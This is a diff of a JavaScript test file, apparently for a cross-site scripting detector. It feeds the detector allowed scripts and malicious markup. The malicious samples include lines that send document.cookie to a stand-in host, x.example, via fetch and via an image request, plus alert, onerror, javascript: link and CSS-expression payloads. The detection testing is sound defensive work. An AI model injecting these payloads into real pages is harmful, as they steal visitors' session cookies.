@@ -25,6 +25,8 @@ describe('a page of several windows', () => {
     '<script src="https://metrics.example/pingjs/?t=%28a%29"></script>',
     '<script src="data:text/javascript;base64,dmFyIGEgPSAxOyBzdGFydChhKTs="></script>',
     `<script>var t = document.createElement("script"); t.src = "https://tags.example/t.js"; ${'step(1); '.repeat(60)}document.cookie = "seen=1";</script>`,
+    '<script>function readCookie(name) { var m = document.cookie.match("(^|;) ?" + name + "=([^;]*)(;|$)"); return m ? m[2] : null; }</script>',
+    '<script>document.write("harbour"+"&#64;"+"tides.example");</script>',
     '<style>@media print { a[href^="javascript:"]:after { content: "" } }</style>',
     `<img alt="" src="data:image/jpeg;base64,${'/9j/4AAQSkZJRgAB'.repeat(400)}">`,
     '<script>document.write("<script src=\'" + host + "stats.example/a.js\'><\\/script>");</script>',
@@ -37,6 +39,8 @@ describe('a page of several windows', () => {
     ['<script>fetch("https://x.example/?c="+document.cookie)</script>', 'xss'],
     ['<script src="data:text/javascript;base64,YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=="></script>', 'xss'],
     ['<script src="https://user@x.example/a.js"></script>', 'xss'],
+    ['<script>function a() { alert(document.cookie); } a();</script>', 'xss high'],
+    ['<script>new Image().src = "//x.example/?" + document.cookie;</script>', 'xss high'],
     ['<img src=x onerror=alert(1)>', 'xss'],
     ['<a href="javascript:alert(document.cookie)">x</a>', 'xss'],
     ['<style>p{x:expression(alert(1))}</style>', 'xss'],
@@ -45,6 +49,11 @@ describe('a page of several windows', () => {
   ])('may not hold %j', (markup, name) => {
     expect(said(page(markup)).join()).toContain(name);
   });
+});
+
+it('of which code put together from numbers alerts and is not blocked', () => {
+  const markup = '<script>document.write(String.fromCharCode(60,47,97,62));</script>';
+  expect(said(page(markup))).toEqual(['xss medium']);
 });
 
 it('leaves the tags of programs, and the styles that run', () => {
